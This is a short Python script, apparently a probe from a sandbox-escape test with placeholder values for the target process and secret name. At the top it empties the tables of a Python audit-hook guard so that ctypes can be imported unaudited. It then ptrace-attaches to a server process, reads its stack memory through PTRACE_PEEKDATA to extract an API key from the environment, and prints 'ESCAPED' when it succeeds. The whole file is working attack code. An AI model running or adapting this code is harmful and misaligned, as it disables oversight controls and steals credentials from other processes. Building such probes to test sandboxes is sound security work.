"""ctypes: ptrace the server (PTRACE_ATTACH, then PEEKDATA its stack for the API key), and
detach again.
"""

import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

SERVER_PID = int("__SERVER_PID__")
NAME = b"__SECRET_ENV__" + b"="
PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 2, 16, 17, 0x4206
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
wins = []
if libc.ptrace(PTRACE_ATTACH, SERVER_PID, None, None) != 0:
    print(f"PTRACE_ATTACH: {os.strerror(ctypes.get_errno())}")
    if libc.ptrace(PTRACE_SEIZE, SERVER_PID, None, None) == 0:
        wins.append("PTRACE_SEIZE")
        libc.ptrace(PTRACE_DETACH, SERVER_PID, None, None)
    else:
        print(f"PTRACE_SEIZE: {os.strerror(ctypes.get_errno())}")
else:
    wins.append("PTRACE_ATTACH")
    try:
        os.waitpid(SERVER_PID, 0x40000000)  # __WALL
        with open(f"/proc/{SERVER_PID}/maps") as f:
            stack = next(line for line in f if line.rstrip().endswith("[stack]"))
        start, end = (int(x, 16) for x in stack.split()[0].split("-"))
        data = bytearray()
        for address in range(max(start, end - 65536), end, 8):
            word = libc.ptrace(PTRACE_PEEKDATA, SERVER_PID, ctypes.c_void_p(address), None)
            data += (word & 0xFFFFFFFFFFFFFFFF).to_bytes(8, "little")
        at = data.find(NAME)
        if at >= 0:
            wins.append("peeked " + data[at : data.index(b"\0", at)].decode(errors="replace"))
    except Exception as exc:
        print(f"peek: {type(exc).__name__}: {exc}")
    finally:
        libc.ptrace(PTRACE_DETACH, SERVER_PID, None, None)
if wins:
    print(f"ESCAPED: traced pid {SERVER_PID}: " + "; ".join(wins))
